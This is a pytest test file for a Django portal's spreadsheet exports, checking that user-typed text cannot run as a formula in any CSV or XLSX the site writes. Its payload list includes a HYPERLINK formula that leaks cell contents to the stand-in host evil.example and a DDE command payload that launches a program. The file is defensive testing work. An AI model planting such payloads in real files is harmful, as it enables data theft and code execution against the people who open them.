"""Every CSV and XLSX the portal writes is inert in a spreadsheet program, whatever users typed.

Text typed by a county (an action's progress, a line of use's description, a dialogue's theme)
may start with `=`, `+`, `-`, `@`, a tab or a carriage return. The test fills such values into
a world of material, then requests every URL of the project (from Django's resolver, so a new
export is covered without being listed) as the ministry and reads every spreadsheet that comes
back: no cell is a formula, no text cell begins like one. The writer is `core.spreadsheets`.
"""

import csv
import io

import pytest
from django.urls import get_resolver
from openpyxl import load_workbook

from accounts.choices import Role
from core.spreadsheets import FORMULA_LEADING, csv_bytes, restore, xlsx_bytes
from core.spreadsheets import Sheet as SheetSpec
from dialogues.models import Dialogue, FollowUpAction, Observation
from followup.models import Expenditure
from tests.factories.accounts import UserFactory

from .urlwalk import build_world, path_for, walk

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\x01=1+1",
]
EXPECTED = {"followup:export", "followup:template", "dialogues:round_export_csv", "dialogues:round_export_xlsx"}


def _looks_like_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_LEADING) or text.lstrip().startswith(FORMULA_LEADING)


def _cells(response) -> list:
    """Every cell of a CSV or XLSX response as (value, is_formula); None for another kind of response."""
    content_type = response.get("Content-Type", "")
    if content_type.startswith("text/csv"):
        text = response.getvalue().decode("utf-8-sig")
        return [(value, False) for row in csv.reader(io.StringIO(text), delimiter=";") for value in row]
    if "spreadsheetml" in content_type:
        workbook = load_workbook(io.BytesIO(response.getvalue()))
        return [
            (cell.value, cell.data_type == "f")
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
    return None


def _paths(world):
    for name, route, _ in walk(get_resolver()):
        if route.startswith("admin/") or name in ("logout", "set_language"):
            continue
        path = path_for(name, route, world)
        yield name, path
        if path.endswith(".csv"):
            yield name, path[: -len(".csv")] + ".xlsx"


@pytest.mark.django_db
def test_every_export_writes_hostile_user_text_inert(client, region_a, region_b):
    world = build_world(region_a, region_b)
    Dialogue.objects.filter(pk=world["dialogue"].pk).update(topic=HOSTILE[0], place=HOSTILE[4])
    Observation.objects.filter(pk=world["observation"].pk).update(title=HOSTILE[2], text=HOSTILE[1])
    FollowUpAction.objects.filter(pk=world["action"].pk).update(what=HOSTILE[5], owner=HOSTILE[7], progress=HOSTILE[6])
    Expenditure.objects.filter(allocation__region=region_a).update(description=HOSTILE[3])
    client.force_login(UserFactory(role=Role.MINISTRY))

    found, texts = set(), []
    for name, path in _paths(world):
        response = client.get(path)
        assert response.status_code < 500, f"GET {path}: {response.status_code}"
        cells = _cells(response) if response.status_code == 200 else None
        if cells is None:
            continue
        found.add(name)
        for value, is_formula in cells:
            assert not is_formula, f"{path}: a formula cell {value!r}"
            if isinstance(value, str):
                assert not _looks_like_a_formula(value), f"{path}: {value!r} would run as a formula"
                texts.append(value)

    assert found >= EXPECTED, f"exports not reached: {EXPECTED - found}"
    # The values are there, inert, with their text intact.
    texts = {text.replace("\r", "\n") for text in texts}  # XML reads a carriage return back as a line feed
    for value in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[5], HOSTILE[6], HOSTILE[7]):
        assert "'" + value.replace("\r", "\n") in texts, f"{value!r} missing from the exports"


@pytest.mark.parametrize("value", HOSTILE)
def test_writers_prefix_formula_leading_text_and_keep_numbers_numbers(value):
    rows = [[value, 1234567, -5, 2.5]]
    lines = list(csv.reader(io.StringIO(csv_bytes(["a", "b", "c", "d"], rows).decode("utf-8-sig")), delimiter=";"))
    assert not _looks_like_a_formula(lines[1][0])
    assert lines[1][1:] == ["1234567", "-5", "2.5"]

    sheet = load_workbook(io.BytesIO(xlsx_bytes([SheetSpec("Blad", ["a", "b", "c", "d"], rows)]))).active
    text, number, negative, fraction = sheet[2]
    assert text.data_type == "s"
    assert not _looks_like_a_formula(text.value)
    assert (number.value, negative.value, fraction.value) == (1234567, -5, 2.5)
    assert number.data_type == negative.data_type == "n"


@pytest.mark.parametrize("value", ["=1+1", "-tal", "@hem", "Vanlig text", "'citat"])
def test_restore_gives_back_what_was_neutralised(value):
    written = next(csv.reader(io.StringIO(csv_bytes([value], []).decode("utf-8-sig")), delimiter=";"))[0]
    assert restore(written) == value
